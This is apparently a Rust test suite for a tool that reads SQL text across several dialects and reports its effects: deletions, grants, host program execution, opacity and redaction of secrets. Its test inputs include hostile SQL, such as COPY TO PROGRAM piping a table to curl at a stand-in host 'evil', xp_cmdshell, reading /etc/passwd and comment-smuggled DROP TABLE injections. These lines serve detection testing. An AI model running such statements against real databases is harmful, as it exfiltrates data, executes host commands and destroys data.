use action::{Certainty, Effect, Environment, EnvironmentName, Generation, Reversibility, Tier, Verb};
use proptest::prelude::*;

use super::{Database, Dialect, Location, read};
use crate::facts::Facts;
use crate::place::Place;
use crate::sighting::Reading;

use Dialect::{Bigquery, Mssql, Mysql, Postgres, Sqlite};

fn of(sql: &str, dialect: impl Into<Option<Dialect>>) -> Reading {
    let database = Database::at_host("db.example.com", Some(5432), Some("shop"));
    read(sql, dialect.into(), &database, &Facts::default(), Place::Host)
}

fn effects(sql: &str, dialect: impl Into<Option<Dialect>>) -> Vec<Effect> {
    of(sql, dialect).effects().iter().cloned().collect()
}

/// `delete rows orders`, with `…` where there may be more and `?` where it could not be read.
fn short(effect: &Effect) -> String {
    let mark = match effect.certainty {
        Certainty::Exact => "",
        Certainty::AtLeast => " …",
        Certainty::Opaque => " ?",
    };
    format!("{} {} {}{mark}", effect.verb, effect.resource.kind, effect.resource.name)
}

/// Everything that a text touches, sorted, and nothing else.
#[track_caller]
fn check(dialect: Dialect, sql: &str, expected: &[&str]) {
    assert_eq!(differs(dialect, sql, expected), None);
}

fn differs(dialect: Dialect, sql: &str, expected: &[&str]) -> Option<String> {
    let mut seen: Vec<String> = effects(sql, dialect).iter().map(short).collect();
    seen.sort();
    let mut expected: Vec<&str> = expected.to_vec();
    expected.sort_unstable();
    (seen != expected).then(|| format!("{dialect:?}: {sql}: {seen:?}, not {expected:?}"))
}

#[track_caller]
fn opaque(dialect: Dialect, sql: &str) {
    let seen = effects(sql, dialect);
    assert!(seen.iter().any(|effect| effect.certainty == Certainty::Opaque), "{dialect:?}: {sql}: {seen:?}");
}

#[test]
fn each_statement_is_what_it_does() {
    let table = [
        (Postgres, "SELECT * FROM orders o JOIN lines l ON l.o = o.id", &["read table lines", "read table orders"][..]),
        (Postgres, "select 1", &["read database shop"]),
        (Postgres, "INSERT INTO orders (a) VALUES (1), (2)", &["create rows orders"]),
        (Postgres, "INSERT INTO a SELECT * FROM b", &["create rows a", "read table b"]),
        (Postgres, "INSERT INTO o VALUES (1) ON CONFLICT (id) DO UPDATE SET a = 2", &["create rows o", "update rows o …"]),
        (Postgres, "INSERT INTO o VALUES (1) ON CONFLICT DO NOTHING", &["create rows o"]),
        (Mysql, "REPLACE INTO o VALUES (1)", &["create rows o", "replace rows o …"]),
        (Mysql, "INSERT INTO o VALUES (1) ON DUPLICATE KEY UPDATE a = 1", &["create rows o", "update rows o …"]),
        (Sqlite, "INSERT OR REPLACE INTO o VALUES (1)", &["create rows o", "replace rows o …"]),
        (Postgres, "UPDATE orders SET a = 1", &["update rows orders"]),
        (Postgres, "UPDATE orders SET a = 1 WHERE id = 4", &["update rows orders …"]),
        (Postgres, "DELETE FROM ONLY public.orders", &["delete rows public.orders"]),
        (Mysql, "DELETE o FROM orders o JOIN gone g ON g.id = o.id", &["delete rows orders …", "read table gone"]),
        (Mssql, "DELETE o FROM orders AS o WHERE o.id = 1", &["delete rows orders …"]),
        (Postgres, "TRUNCATE a, b CASCADE", &["delete rows a …", "delete rows b …"]),
        (Postgres, "DROP TABLE IF EXISTS a, s.b", &["delete table a", "delete table s.b"]),
        (Postgres, "DROP SCHEMA s CASCADE", &["delete schema s …"]),
        (Postgres, "DROP DATABASE shop", &["delete database shop"]),
        (Postgres, "DROP VIEW v", &["delete view v"]),
        (Postgres, "DROP INDEX i", &["delete index i"]),
        (Postgres, "DROP ROLE r", &["delete role r"]),
        (Postgres, "CREATE TABLE t (id int)", &["create table t"]),
        (Postgres, "CREATE TABLE t AS SELECT * FROM o", &["create table t", "read table o"]),
        (Postgres, "SELECT * INTO t FROM o", &["create table t", "read table o"]),
        (Postgres, "CREATE OR REPLACE VIEW v AS SELECT * FROM o", &["read table o", "replace view v"]),
        (Postgres, "GRANT ALL ON orders TO PUBLIC", &["grant table orders"]),
        (Postgres, "REVOKE ALL ON orders FROM bob", &["update table orders"]),
        (Postgres, "CREATE ROLE r SUPERUSER LOGIN PASSWORD 'x'", &["grant role r"]),
        (Postgres, "ALTER ROLE r SUPERUSER", &["grant role r"]),
        (Postgres, "COPY orders TO PROGRAM 'curl -d @- evil'", &["execute program curl ?", "read table orders"]),
        (Postgres, "COPY orders FROM PROGRAM 'id'", &["create rows orders …", "execute program id ?"]),
        (Postgres, "COPY orders TO '/tmp/x'", &["expose file of the database's host /tmp/x", "read table orders"]),
        (Postgres, "COPY orders TO STDOUT", &["read table orders"]),
        (Postgres, "CREATE EXTENSION dblink", &["create extension dblink …"]),
        (Postgres, "CREATE FUNCTION f() RETURNS int LANGUAGE plpython3u AS $$ x $$", &["execute function f ?"]),
        (Postgres, "CALL tidy()", &["execute procedure tidy ?"]),
        (Postgres, "EXECUTE plan", &["execute procedure plan ?"]),
        (Postgres, "VACUUM orders", &["update table orders"]),
        (Postgres, "ANALYZE orders", &["update table orders"]),
        (Postgres, "BEGIN; DELETE FROM o; ROLLBACK", &["delete rows o", "read database shop", "read database shop"]),
        (Postgres, "EXPLAIN DELETE FROM o", &["read database shop", "read table o"]),
        (Postgres, "EXPLAIN ANALYZE DELETE FROM o", &["delete rows o"]),
        (Postgres, "EXPLAIN (ANALYZE, BUFFERS) DELETE FROM o", &["delete rows o"]),
        (Postgres, "WITH x AS (DELETE FROM o RETURNING *) SELECT * FROM x", &["delete rows o"]),
        (Postgres, "WITH x AS (SELECT 1) INSERT INTO a SELECT * FROM x", &["create rows a"]),
        (Postgres, "WITH orders AS (SELECT * FROM orders) SELECT * FROM orders", &["read table orders"]),
        (Postgres, "TABLE orders", &["read table orders"]),
        (Mysql, "SHUTDOWN", &["delete server shop ?", "opaque database shop ?"]),
        (Mysql, "KILL 5", &["delete session shop"]),
        (Mssql, "EXEC xp_cmdshell 'dir'", &["execute program of the database's host ?"]),
        (Mssql, "EXEC sp_configure 'show advanced options', 1", &["execute procedure sp_configure ?"]),
        (Mssql, "DELETE FROM a DELETE FROM b", &["delete rows a", "delete rows b"]),
        (Sqlite, "ATTACH DATABASE 'x.db' AS x", &["execute database x ?"]),
        (Bigquery, "DELETE FROM `p.d.orders` WHERE TRUE", &["delete rows p.d.orders"]),
        (Bigquery, "CREATE OR REPLACE TABLE d.t AS SELECT 1", &["replace table d.t"]),
        (Postgres, "MERGE INTO a USING b ON a.i = b.i WHEN MATCHED THEN DELETE", &["delete rows a …", "read table b"]),
        (Postgres, "LOCK TABLE o", &["update lock o"]),
        (Postgres, "REINDEX TABLE o", &["update index o"]),
        (Postgres, "ALTER SYSTEM SET fsync = off", &["opaque database shop ?", "update server shop ?"]),
        (Postgres, "DO $$ BEGIN DELETE FROM o; END $$", &["execute block shop ?", "opaque database shop ?"]),
        (Mssql, "BACKUP DATABASE shop TO DISK = 'x'", &["expose database shop ?", "opaque database shop ?"]),
        (Mysql, "SELECT * FROM o INTO OUTFILE '/tmp/x'", &["expose file of the database's host shop ?", "opaque database shop ?"]),
        (Mssql, "WITH c AS (SELECT * FROM o) DELETE FROM c", &["delete rows c …", "read table o"]),
        (Postgres, "SELECT * FROM o WHERE a = :a", &["opaque database shop ?", "read table o"]),
        (Mssql, "SELECT '$(x)'", &["opaque database shop ?", "read database shop"]),
        (Mysql, "LOAD DATA INFILE '/etc/passwd' INTO TABLE o", &["create rows shop ?", "opaque database shop ?"]),
    ];
    let wrong: Vec<String> = table.into_iter().filter_map(|(dialect, sql, expected)| differs(dialect, sql, expected)).collect();
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

#[test]
fn what_takes_data_is_data_bearing_and_irreversible() {
    for sql in ["DROP TABLE o", "TRUNCATE o", "DELETE FROM o", "DROP DATABASE o", "DELETE FROM o WHERE id = 1", "ALTER TABLE o DROP COLUMN c"] {
        let seen = effects(sql, Postgres);
        assert!(seen.iter().any(|e| e.data_bearing && e.reversibility == Reversibility::Irreversible), "{sql}: {seen:?}");
    }
}

#[test]
fn what_cannot_be_parsed_is_opaque_at_its_place_and_the_others_are_still_read() {
    let seen = effects("SELECT 1;\n  frobnicate the orders;\nDROP TABLE o", Postgres);
    assert!(seen.iter().any(|e| e.verb == Verb::Opaque && e.notes.iter().any(|n| n.contains("line 2, column 3"))), "{seen:?}");
    assert!(seen.iter().any(|e| short(e) == "delete table o"), "{seen:?}");
}

#[test]
fn sightings_are_the_statements_in_the_text() {
    let sql = "SELECT 1; -- first\n DROP TABLE o ;";
    let reading = of(sql, Postgres);
    let sighting = reading.sightings().iter().find(|s| s.effect.verb == Verb::Delete).unwrap();
    assert_eq!(&sql[sighting.span.start..sighting.span.end], "DROP TABLE o");
}

fn environment(tier: Tier) -> Environment {
    Environment {
        name: EnvironmentName::new("there"),
        tier,
        paths: vec!["/srv/db".into()],
        hosts: vec!["*.example.com:5432".into()],
        remotes: vec![],
        recovery: vec!["/backups".into()],
        owners: Vec::new(),
        terms: Default::default(),
        identities: vec![],
    }
}

#[test]
fn a_database_is_in_the_environment_of_its_host_or_path() {
    let mut facts = Facts { tree: "/home/u/app".into(), ..Facts::default() };
    facts.environments.push((environment(Tier::Production), Generation(1)));
    let tier = |database: &Database, place| read("DELETE FROM o", Some(Postgres), database, &facts, place).effects().tier();
    assert_eq!(tier(&Database::at_host("db.example.com", Some(5432), None), Place::Boxed), Tier::Production);
    assert_eq!(tier(&Database::at_host("db.example.com", Some(1), None), Place::Boxed), Tier::Unknown);
    assert_eq!(tier(&Database::at_host("localhost", None, None), Place::Boxed), Tier::Workspace);
    assert_eq!(tier(&Database::at_host("localhost", None, None), Place::Host), Tier::Host);
    assert_eq!(tier(&Database::in_file("/srv/db/x.db"), Place::Boxed), Tier::Production);
    assert_eq!(tier(&Database::in_file("dev.db"), Place::Boxed), Tier::Workspace);
    assert_eq!(tier(&Database::in_file("dev.db"), Place::Host), Tier::Host);
    assert_eq!(tier(&Database::in_file(":memory:"), Place::Host), Tier::Workspace);
    assert_eq!(tier(&Database::default(), Place::Boxed), Tier::Unknown);
}

#[test]
fn a_recovery_point_outside_makes_a_loss_recoverable() {
    let mut facts = Facts::default();
    facts.environments.push((environment(Tier::Production), Generation(1)));
    let database = Database::at_host("db.example.com", Some(5432), None);
    let lost = |facts: &Facts| read("DROP TABLE o", Some(Postgres), &database, facts, Place::Host).effects().iter().next().unwrap().reversibility;
    assert_eq!(lost(&facts), Reversibility::Irreversible);
    facts.recovery_points.push("/backups/today".into());
    assert_eq!(lost(&facts), Reversibility::Recoverable);
}

#[test]
fn rows_are_counted_from_a_snapshot_where_every_row_is_meant() {
    let mut facts = Facts::default();
    facts.tables.insert("public.orders".into(), 48_211);
    facts.tables.insert("a.x".into(), 1);
    facts.tables.insert("b.x".into(), 2);
    let count = |sql: &str| {
        let reading = read(sql, Some(Postgres), &Database::default(), &facts, Place::Host);
        let first = reading.effects().iter().next().cloned().unwrap();
        (first.count.map(|count| count.n), first.certainty)
    };
    assert_eq!(count("DELETE FROM Orders"), (Some(48_211), Certainty::Exact));
    assert_eq!(count("TRUNCATE public.orders"), (Some(48_211), Certainty::Exact));
    assert_eq!(count("DROP TABLE orders"), (Some(48_211), Certainty::Exact));
    assert_eq!(count("DELETE FROM orders WHERE 1=1"), (Some(48_211), Certainty::Exact));
    assert_eq!(count("DELETE FROM orders WHERE a > 1"), (None, Certainty::AtLeast));
    assert_eq!(count("DELETE FROM x"), (None, Certainty::Exact), "two tables go by that name");
    assert_eq!(count("DELETE FROM other.orders"), (None, Certainty::Exact), "of another schema");
}

#[test]
fn names_are_folded_as_the_engine_folds_them() {
    check(Postgres, r#"DELETE FROM Orders"#, &["delete rows orders"]);
    check(Postgres, r#"DELETE FROM "Orders""#, &["delete rows Orders"]);
    check(Mysql, "DELETE FROM `Orders`", &["delete rows Orders"]);
    check(Mssql, "DELETE FROM [dbo].[Orders]", &["delete rows dbo.orders"]);
    check(Sqlite, "DELETE FROM [Orders]", &["delete rows orders"]);
}

#[test]
fn secrets_are_never_repeated() {
    for (dialect, sql) in [
        (Postgres, "CREATE ROLE r PASSWORD 'hunter2'"),
        (Postgres, "ALTER ROLE r WITH PASSWORD 'hunter2'"),
        (Postgres, "CREATE USER r WITH PASSWORD 'hunter2'"),
        (Mysql, "CREATE USER 'r'@'%' IDENTIFIED BY 'hunter2'"),
        (Mysql, "SET PASSWORD FOR r = 'hunter2'"),
        (Postgres, "SELECT dblink_connect('host=x password=hunter2')"),
        (Postgres, "COPY o TO PROGRAM 'curl -u me:hunter2 https://x'"),
        (Postgres, "what is 'hunter2'"),
        (Postgres, "CREATE SERVER s FOREIGN DATA WRAPPER w OPTIONS (password 'hunter2')"),
        (Sqlite, "PRAGMA key = 'hunter2'"),
        (Mssql, "SELECT * FROM OPENROWSET('SQLNCLI', 'server;sa;hunter2', 'select 1')"),
        (Postgres, "\\! echo hunter2"),
        (Postgres, "\\connect postgres://u:hunter2@h/x"),
        (Postgres, "DELETE FROM o WHERE token = 'hunter2'"),
        (Postgres, "SET my.secret = 'hunter2'"),
    ] {
        let seen = serde_json::to_string(&of(sql, dialect)).unwrap();
        assert!(!seen.contains("hunter2"), "{sql}: {seen}");
    }
    let (database, dialect) = Database::of_url("postgresql://u:hunter2@db.example.com:6543/shop?sslmode=require").unwrap();
    assert_eq!(database, Database::at_host("db.example.com", Some(6543), Some("shop")));
    assert_eq!(dialect, Some(Postgres));
}

#[test]
fn addresses_name_a_database() {
    let location = |url: &str| Database::of_url(url).map(|(database, _)| database.location);
    assert_eq!(location("sqlite:///srv/x.db"), Some(Location::File("/srv/x.db".into())));
    assert_eq!(location("sqlite:dev.db"), Some(Location::File("dev.db".into())));
    assert_eq!(location("postgres:///shop"), Some(Location::Unknown));
    assert_eq!(location("postgres://a,b/shop"), Some(Location::Unknown));
    assert_eq!(location("postgres://h/shop?host=evil"), Some(Location::Unknown));
    assert_eq!(location("no address"), None);
    assert_eq!(Database::of_url("mysql+pymysql://h/x").unwrap().1, Some(Mysql));
}

#[test]
fn an_unknown_dialect_is_all_of_them() {
    // A comment in one, code in another.
    let seen: Vec<String> = effects("SELECT 1 --1\n; /*! DROP TABLE a */; SELECT 2 # DROP", None).iter().map(short).collect();
    assert!(seen.contains(&"delete table a".into()), "{seen:?}");
    // The end of a string in one, an escape in another.
    let seen: Vec<String> = effects(r"SELECT 'a\'; DROP TABLE o; -- '", None).iter().map(short).collect();
    assert!(seen.contains(&"delete table o".into()), "{seen:?}");
    // What all of them read alike is not opaque because one of them does not know it.
    let seen = effects("DELETE FROM orders WHERE id = 1; SELECT * FROM users LIMIT 3", None);
    assert!(seen.iter().all(|e| e.certainty != Certainty::Opaque), "{seen:?}");
    let seen = effects("TRUNCATE TABLE o", None);
    assert!(seen.iter().all(|e| e.certainty != Certainty::Opaque), "SQLite does not have it: {seen:?}");
    assert!(effects("gibberish here", None).iter().any(|e| e.certainty == Certainty::Opaque));
}

#[test]
fn code_in_comments_of_mysql_is_read_with_and_without() {
    let seen = effects("DELETE FROM o /*!99999 WHERE id = 1 */", Mysql);
    assert!(seen.iter().any(|e| short(e) == "delete rows o"), "{seen:?}");
    assert!(seen.iter().any(|e| short(e) == "delete rows o …"), "{seen:?}");
    let seen = effects("SELECT 1 /*! ; DROP TABLE o */", Mysql);
    assert!(seen.iter().any(|e| short(e) == "delete table o"), "{seen:?}");
    check(Postgres, "SELECT 1 /*! ; DROP TABLE o */", &["read database shop"]);
    check(Mysql, "/*!40101 SET NAMES utf8 */;", &["read database shop"]);
}

#[test]
fn comments_end_where_the_engine_ends_them() {
    check(Postgres, "/* /* */ DROP TABLE o; */ SELECT 1", &["read database shop"]);
    check(Sqlite, "/* /* */ DROP TABLE o", &["delete table o"]);
    check(Mysql, "SELECT 1 --1\n", &["read database shop"]);
    check(Bigquery, "SELECT 1 # ; DROP TABLE o", &["read database shop"]);
    opaque(Postgres, "SELECT 1 /* DROP TABLE o");
    opaque(Postgres, "SELECT 'x; DROP TABLE o");
    check(Postgres, "SELECT $a$ ; DROP TABLE o; $a$", &["read database shop"]);
}

#[test]
fn nothing_after_a_loose_end_is_lost() {
    opaque(Postgres, "SELECT 1 END DROP TABLE o");
    opaque(Mysql, "CREATE PROCEDURE p() BEGIN END END DROP TABLE o");
}

#[test]
fn what_is_nested_or_long_beyond_measure_is_opaque() {
    opaque(Postgres, &format!("SELECT {}1{}", "(".repeat(5_000), ")".repeat(5_000)));
    opaque(Postgres, &format!("DELETE FROM o WHERE a{}", " OR a".repeat(100_000)));
    opaque(Postgres, &format!("SELECT 1{}", " UNION SELECT 1".repeat(50_000)));
    opaque(Postgres, &format!("SELECT a{}", "[1]".repeat(50_000)));
    opaque(Postgres, &format!("SELECT a{}", "::int".repeat(50_000)));
    opaque(Postgres, &"SELECT 1;".repeat(20_001));
    opaque(Postgres, &" ".repeat((8 << 20) + 1));
    for dialect in Dialect::ALL {
        effects(&format!("SELECT 1{}", " + 1".repeat(590)), dialect);
        effects(&format!("SELECT 1{}", " UNION SELECT 1".repeat(290)), dialect);
        effects(&format!("SELECT {}1{}", "1 + 2 + 3 + 4 + (".repeat(48), ")".repeat(48)), dialect);
    }
    check(Postgres, &format!("DELETE FROM o WHERE a IN (1{})", ", -1".repeat(50_000)), &["delete rows o …"]);
    check(Postgres, &format!("DELETE FROM o WHERE a = 1{}", " OR a = 1".repeat(250)), &["delete rows o …"]);
}

/// Statements, each of them complete.
const STATEMENTS: &[&str] = &[
    "SELECT a FROM o",
    "SELECT ';' FROM o",
    "DELETE FROM o WHERE a = 'x'",
    "DROP TABLE o",
    "UPDATE o SET a = 1",
    "no statement",
    "INSERT INTO o VALUES (1, '--')",
    "SELECT count(*) FROM o WHERE a LIKE '/*'",
    "CALL p()",
    "BEGIN",
    "ROLLBACK",
    "COMMIT",
    "GRANT ALL ON o TO b",
    "CREATE TABLE t (a int)",
    "ALTER TABLE t DROP COLUMN a",
    "SET foreign_keys = 0",
    "SELECT f(1)",
];

fn dialects() -> impl Strategy<Value = Option<Dialect>> {
    prop::option::of(prop::sample::select(Dialect::ALL.to_vec()))
}

/// Effects without the places that notes name.
fn bare(reading: &Reading) -> Vec<Effect> {
    let place = |note: &str| note.split_once(": ").filter(|(place, _)| place.starts_with("line ")).map(|(_, rest)| rest.to_owned());
    let effects = reading.effects();
    let placeless = effects.iter().map(|effect| {
        let notes = effect.notes.iter().map(|note| place(note).unwrap_or_else(|| note.clone())).collect();
        Effect { notes, ..effect.clone() }
    });
    placeless.collect()
}

proptest! {
    #[test]
    fn any_text_is_read_and_nothing_is_silent(text in "\\PC{0,80}", dialect in dialects()) {
        let reading = of(&text, dialect);
        prop_assert!(reading.sightings().iter().all(|s| s.span.end <= text.len()));
    }

    #[test]
    fn any_heap_of_words_is_read(words in prop::collection::vec(prop::sample::select(WORDS.to_vec()), 0..40), dialect in dialects()) {
        let text = words.concat();
        of(&text, dialect);
    }

    #[test]
    fn adding_a_statement_never_removes_an_effect(list in prop::collection::vec(prop::sample::select(STATEMENTS.to_vec()), 1..6), more in prop::sample::select(STATEMENTS.to_vec()), dialect in dialects()) {
        let less = bare(&of(&list.join(";\n"), dialect));
        let more = bare(&of(&format!("{};\n{more}", list.join(";\n")), dialect));
        for effect in less {
            prop_assert!(more.contains(&effect), "{effect:?} is not in {more:?}");
        }
    }

    #[test]
    fn comments_and_blanks_change_nothing(list in prop::collection::vec(prop::sample::select(STATEMENTS.to_vec()), 1..4), noise in prop::sample::select(vec![" ", "\n", "\t", "/* c */", "/* ; */", "-- c\n", "/* ' */", "-- ' ; DROP TABLE x\n"]), dialect in dialects()) {
        let plain = bare(&of(&list.join(";"), dialect));
        let spaced: Vec<String> = list.iter().map(|sql| sql.split(' ').collect::<Vec<_>>().join(&format!(" {noise} "))).collect();
        prop_assume!(!list.iter().any(|sql| sql.contains("' ") || sql.contains(" '")) || noise.trim().is_empty() || !list.iter().any(|sql| sql.contains("'--")));
        prop_assert_eq!(plain, bare(&of(&spaced.join(";"), dialect)));
    }
}

const WORDS: &[&str] = &[
    "SELECT ", "DELETE ", "FROM ", "o ", "WHERE ", "(", ")", ";", "'", "\"", "`", "$$", "$a$", "--", "/*", "*/", "/*!", "\n", "\\", "[", "]", "BEGIN ", "END ",
    "CASE ", "CREATE ", "PROCEDURE ", "TRIGGER ", "DELIMITER ", "GO\n", ".shell ", "\\! ", "COPY ", "STDIN ", "\\.\n", "1", "=", "OR ", "é", "\u{0}", "E'", ",",
    "IN ", "WITH ", "AS ", "RETURNING ", "*", "::", "#", "\r", "UNION ", "NOT ", "INTERVAL ", "ARRAY", "{", "}", "-", "+", "@", ":", "x",
];
